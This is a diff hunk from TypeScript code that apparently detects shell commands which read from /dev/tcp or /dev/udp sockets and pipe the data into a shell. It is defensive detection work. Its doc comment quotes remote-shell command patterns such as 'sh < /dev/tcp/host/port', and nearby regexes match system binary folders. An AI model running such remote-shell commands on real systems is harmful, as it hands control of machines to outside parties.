@@ -66,6 +66,20 @@ export function handedTo(all: readonly Word[]): Word | null {
   return own.find(({ text }) => /^(?:[<>&]{0,3})\/dev\/(?:tcp|udp)\/./.test(text)) ?? null;
 }
 
+/** The address that a shell of the line reads from: `sh < /dev/tcp/host/port`, `exec 5<>/dev/tcp/…; cat <&5 | sh`. */
+export function readByShell(commands: readonly ShellCommand[]): Word | null {
+  for (const [index, { words: all }] of commands.entries()) {
+    const far = all.find(({ text }) => /^\/dev\/(?:tcp|udp)\/./.test(text));
+    if (far === undefined) continue;
+    const runs = commands.slice(index).find(({ words: [program], operator }, later) => {
+      const joined = later === 0 ? all.some(({ text }) => text === '<') : operator?.startsWith('|');
+      return joined === true && shells.has(nameOf(program?.text ?? ''));
+    });
+    if (runs !== undefined) return far;
+  }
+  return null;
+}
+
 const systemFolder =
   /^(?:\/usr(?:\/local)?)?\/s?bin\/[^/]+$|^[a-z]:\\windows\\(?:system32\\)?[^\\]+$/i;
 const copies = /^(?:cp|mv|sync)$/;
